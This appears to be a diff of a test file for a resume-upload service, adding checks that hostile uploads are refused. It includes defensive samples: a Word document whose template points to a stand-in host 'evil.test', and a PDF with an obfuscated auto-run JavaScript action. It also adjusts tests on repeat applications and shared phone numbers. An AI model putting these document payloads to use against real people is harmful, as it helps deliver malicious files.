@@ -133,6 +133,9 @@ test('a resume is refused when the list of applications names another file than 
   expect((await seen()).status).toBe(200)
 })
 
+const TEMPLATE =
+  '<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/></Relationships>'
+
 describe('a resume is refused by its content, whatever its name', () => {
   const exe = Buffer.concat([
     Buffer.from('MZ\u0090\u0000'),
@@ -150,6 +153,19 @@ describe('a resume is refused by its content, whatever its name', () => {
     ['a Java archive', { name: 'resume.docx', content: zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A' }) }, 415],
     ['a document with macros', { name: 'resume.docx', content: docx({ 'word/vbaProject.bin': 'x' }) }, 415],
     ['a document with a program in it', { name: 'resume.docx', content: docx({ 'word/embeddings/oleObject1.bin': 'MZ' }) }, 415],
+    [
+      'a document with a template of another place',
+      { name: 'resume.docx', content: docx({ 'word/_rels/settings.xml.rels': TEMPLATE }) },
+      415,
+    ],
+    [
+      'a PDF with a script',
+      {
+        name: 'resume.pdf',
+        content: Buffer.from(String(pdf('x')).replace('/Catalog', '/Catalog/OpenAction<</S/J#61vaScript/JS(x)>>')),
+      },
+      415,
+    ],
     ['an old Word document or installer', { name: 'resume.doc', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }, 415],
     ['an empty file', { name: 'resume.pdf', content: Buffer.alloc(0) }, 415],
     ['more than 5 MB', { name: 'resume.pdf', content: Buffer.concat([pdf('x'), Buffer.alloc(5 * 1_048_576)]) }, 413],
@@ -202,10 +218,21 @@ test('an application without a resume is one, and a repeat adds the resume to it
   expect((await send(form)).status).toBe(200)
   expect(await listed(form.email ?? '')).toMatchObject([{ resumeUrl: null, resumes: [] }])
   await send(form, { name: 'first.pdf', content: pdf('first') })
-  await send({ ...form, experience: '5' }, { name: 'second.pdf', content: pdf('second') })
+  await send(form, { name: 'second.pdf', content: pdf('second') })
   const rows = await listed(form.email ?? '')
-  expect(rows).toMatchObject([{ times: 3, experience: 5, resumes: [{ name: 'first.pdf' }, { name: 'second.pdf' }] }])
+  expect(rows).toMatchObject([{ times: 3, experience: 4, resumes: [{ name: 'first.pdf' }, { name: 'second.pdf' }] }])
   expect((await scene.admin.get(rows[0].resumeUrl)).body).toEqual(pdf('second'))
+})
+
+test('an application with the number of an earlier one replaces nothing of it', async () => {
+  const form = typed()
+  await send(form, { name: 'own.pdf', content: pdf('own') })
+  await send(typed({ mobile: form.mobile ?? '', name: 'Quite Another' }), { name: 'other.pdf', content: pdf('other') })
+  const rows = await listed((form.mobile ?? '').slice(3))
+  expect(rows).toMatchObject([
+    { name: 'Quite Another', times: 1, resumes: [{ name: 'other.pdf' }] },
+    { name: 'Farida Irani', email: form.email, times: 1, resumes: [{ name: 'own.pdf' }] },
+  ])
 })
 
 test('an erased application leaves no name, no address and no file', async () => {
